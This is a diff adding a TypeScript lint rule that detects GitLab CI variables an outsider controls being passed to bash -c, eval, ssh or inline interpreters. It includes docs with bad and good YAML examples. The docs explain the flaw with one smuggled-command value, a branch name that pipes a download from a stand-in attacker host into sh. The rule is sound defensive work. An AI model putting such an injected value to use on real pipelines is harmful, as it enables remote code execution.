@@ -1,0 +1,99 @@
+import { isUntrustedVariable } from '../../server/core/model/gitlab/untrusted.ts';
+import { isShellName } from '../../server/core/parse/shell/nested.ts';
+import { operandsOf } from '../../server/core/parse/shell/query.ts';
+import type { Command, Word } from '../../server/core/parse/shell.ts';
+import { defineRule } from '../../server/core/rule.ts';
+
+const HINT = /\beval\b|\bssh\b|-[a-z]*[ce]\b/;
+/** Options of ssh that take a value. */
+const SSH_VALUED = [
+  '-b',
+  '-c',
+  '-D',
+  '-E',
+  '-e',
+  '-F',
+  '-I',
+  '-i',
+  '-J',
+  '-L',
+  '-l',
+  '-m',
+  '-O',
+  '-o',
+  '-p',
+  '-Q',
+  '-R',
+  '-S',
+  '-W',
+  '-w',
+];
+
+export default defineRule({
+  id: 'gitlab-code-from-variable',
+  summary: 'Text that an outsider writes is run as code',
+  severity: 'high',
+  confidence: 'high',
+  profile: 'default',
+  owasp: ['CICD-SEC-4'],
+  cwe: [78, 94],
+  since: '0.1.0',
+  fix: 'none',
+  equivalents: { 'pipeline-check': ['GL-002'], glsec: [] },
+  kinds: ['gitlab-ci'],
+  docs: `
+    ## What it does
+    Reports variables that a pusher or the author of a merge request fills (branch, tag, title, message, user name) in
+    text that a further shell or interpreter reads: \`bash -c "…"\`, \`eval\`, \`ssh host "…"\`, \`python -c "…"\`.
+
+    ## Why is this bad?
+    The variable is replaced first and the result is parsed again, so a branch called \`x;curl evil.example|sh\` runs.
+    Quotes inside the outer quotes do not help: the name may hold quotes too.
+
+    Hand the value over as an argument or through the environment.
+
+    ## Example
+    \`\`\`yaml bad .gitlab-ci.yml
+    notify:
+      script:
+        - bash -c "echo built $CI_COMMIT_REF_NAME"
+    \`\`\`
+    Use instead:
+    \`\`\`yaml good .gitlab-ci.yml
+    notify:
+      script:
+        - bash -c 'echo "built $1"' - "$CI_COMMIT_REF_NAME"
+    \`\`\`
+  `,
+  check: {
+    script(ctx, script) {
+      if (!/CI_|GITLAB_USER/.test(script.text) || !HINT.test(script.text)) return;
+      for (const command of script.commands) {
+        for (const word of codeOf(command)) {
+          for (const piece of word.pieces) {
+            if (piece.kind !== 'variable' || !isUntrustedVariable(piece.name)) continue;
+            ctx.report({
+              span: script.spanOf(piece),
+              message: `An outsider fills \`${piece.name}\`, and here it is parsed as code; hand it over as an argument.`,
+            });
+          }
+        }
+      }
+    },
+  },
+});
+
+/** The words whose text is parsed once more. */
+function codeOf({ name, args, place }: Command): readonly Word[] {
+  // A script in quotes was expanded before its commands were read; it is reported once, at the outer command.
+  if (place === 'script') return [];
+  if (name === 'eval') return args;
+  if (name === 'ssh') return operandsOf(args, SSH_VALUED).slice(1);
+  const inline = isShellName(name)
+    ? /^-[a-z]*c$/
+    : /^(?:python[\d.]*|perl|ruby|node|php)$/.test(name)
+      ? /^-[a-z]*[cer]$/
+      : undefined;
+  const at = inline ? args.findIndex(({ text }) => inline.test(text)) : -1;
+  return at === -1 ? [] : args.slice(at + 1, at + 2);
+}
